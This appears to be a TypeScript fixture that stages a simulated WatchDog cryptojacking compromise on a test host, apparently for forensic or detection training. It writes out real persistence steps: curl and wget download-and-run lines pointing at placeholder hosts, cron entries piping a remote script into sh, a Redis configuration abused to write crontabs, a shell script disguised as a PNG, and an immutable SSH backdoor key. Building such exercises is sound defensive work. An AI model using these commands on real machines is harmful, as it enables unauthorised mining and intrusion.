import { endsHere, type Infection, type Item, minerWords, poolPort, shyMiner, wallet } from '../host-part.ts'
import { loginKey } from '../login-key.ts'
import { redisDump } from '../redis-dump.ts'

const settings = `${JSON.stringify({ 'donate-level': 1, pools: [{ url: `127.0.0.1:${poolPort}`, user: wallet, keepalive: true, nicehash: false }], randomx: { mode: 'auto' }, cpu: { 'max-threads-hint': 100 } })}\n`
const update = [
  '#!/bin/sh',
  endsHere,
  'pkill -f kinsing-rival; pkill -f kdevtmpfsi',
  'curl -fsSL http://203.0.113.90/b2f628/sysupdate -o /etc/sysupdate || wd1 -q -O /etc/sysupdate http://203.0.113.90/b2f628/sysupdate',
  'chmod +x /etc/sysupdate && nohup /etc/sysupdate >/dev/null 2>&1 &',
  '',
].join('\n')
const beat = [
  '#!/bin/bash',
  endsHere,
  'while true; do',
  '  [ $(( $(date +%s) - $(stat -c %Y /var/tmp/.system/.log) )) -lt 600 ] || nohup "/var/tmp/.system/[ext4]" >/var/tmp/.system/.log 2>&1 &',
  '  sleep 30',
  'done',
  '',
].join('\n')
const job = (minutes: number, tool: string, options: string) =>
  `\n\n\n*/${minutes} * * * * root ${tool} ${options} http://oracle.zzhreceive.invalid/b2f628/b.sh | sh\n\n`
const keys: [string, string][] = [
  ['session:41', 'anna'],
  ['backup1', job(2, 'cd1', '-fsSL')],
  ['backup2', job(3, 'wget', '-q -O-')],
  ['backup3', job(4, 'curl', '-fsSL')],
  ['backup4', job(5, 'wd1', '-q -O-')],
]
const body = { ...shyMiner, stubborn: true, once: 'sysupdate' } as const

/** families.md §7: three programs that watch each other, and a Redis that writes crontabs. */
export const watchdog: Infection = {
  family: 'watchdog',
  known: true,
  title: 'WatchDog: scanner, miner and guard, written by Redis',
  story: [
    'networkservice scans, sysupdate mines and sysguard brings both back; all lie directly in /etc.',
    'A later kit lies below /var/tmp/.system: a miner called [ext4], alive while its log is young.',
    'An open Redis wrote its data as crontabs; the keys backup1 to backup4 are still in its database and would be written again.',
    'wget became wd1. An account lsb shares its number with another; its key has the comment root@puppetserver.',
  ],
  items: [
    {
      kind: 'file',
      path: '/etc/sysupdate',
      content: { lookalike: body, words: minerWords },
      mode: 0o755,
    },
    { kind: 'file', path: '/etc/config.json', content: { text: settings } },
    {
      kind: 'file',
      path: '/etc/networkservice',
      content: { lookalike: { burn: 2, once: 'networkservice' }, words: 'masscan zgrab redis-cli hadoop' },
      mode: 0o755,
    },
    {
      kind: 'file',
      path: '/etc/sysguard',
      content: {
        lookalike: {
          stubborn: true,
          once: 'sysguard',
          keeps: ['/etc/sysupdate', '/etc/networkservice', '/etc/update.sh'],
          keepsRunning: ['/etc/sysupdate', '/etc/networkservice'],
        },
      },
      mode: 0o755,
    },
    { kind: 'file', path: '/etc/update.sh', content: { text: update }, mode: 0o755 },
    { kind: 'line', path: '/etc/crontab', text: '*/30 * * * * root sh /etc/update.sh >/dev/null 2>&1' },
    { kind: 'directory', path: '/var/tmp/.system' },
    {
      kind: 'file',
      path: '/var/tmp/.system/[ext4]',
      content: { lookalike: { ...shyMiner, title: '[ext4]', once: 'ext4' }, words: `${minerWords}\nlater kit` },
      mode: 0o755,
    },
    { kind: 'file', path: '/var/tmp/.system/.log', content: { text: 'new job from 127.0.0.1\n' } },
    { kind: 'file', path: '/var/tmp/.system/beat.sh', content: { text: beat }, mode: 0o755 },
    { kind: 'line', path: '/etc/crontab', text: '@reboot root nohup /var/tmp/.system/beat.sh >/dev/null 2>&1 &' },
    {
      kind: 'file',
      path: '/tmp/cover.png',
      content: { text: `\u0089PNG\r\n\u001a\nnot a picture\n#!/bin/sh\n${update}` },
      mode: 0o755,
    },
    { kind: 'rename', path: '/usr/bin/wget', to: '/usr/bin/wd1' },
    { kind: 'file', path: '/var/spool/cron/root', content: redisDump(keys), mode: 0o600 },
    { kind: 'file', path: '/var/spool/cron/crontabs/backup.db', content: redisDump(keys), mode: 0o600 },
    {
      kind: 'file',
      path: '/etc/redis/redis.conf',
      content: { text: 'bind 0.0.0.0\nprotected-mode no\ndir /var/spool/cron\ndbfilename root\n' },
      mode: 0o640,
      after: 'advised',
    },
    { kind: 'file', path: '/var/lib/redis/dump.rdb', content: redisDump(keys), mode: 0o660, after: 'advised' },
    {
      kind: 'account',
      name: 'lsb',
      uid: 1001,
      home: '/home/lsb',
      shadow: '$6$davylamprange$2222222222222222222222222222222222222222222222222222222222222222222222222222222222222.',
    },
    ...['authorized_keys', 'authorized_keys2'].map(
      (name): Item => ({
        kind: 'line',
        path: `/home/lsb/.ssh/${name}`,
        text: loginKey('ssh-rsa', 'watchdog', 'root@puppetserver'),
        owner: 'lsb',
        mode: 0o600,
        attributes: 'ia',
      }),
    ),
    { kind: 'process', path: '/etc/sysguard', argv: ['/etc/sysguard'] },
    { kind: 'process', path: '/etc/sysupdate', argv: [], startedBy: '/etc/sysguard' },
    { kind: 'process', path: '/etc/networkservice', argv: [], startedBy: '/etc/sysguard' },
    { kind: 'process', path: '/var/tmp/.system/[ext4]', argv: ['[ext4]'] },
  ],
}
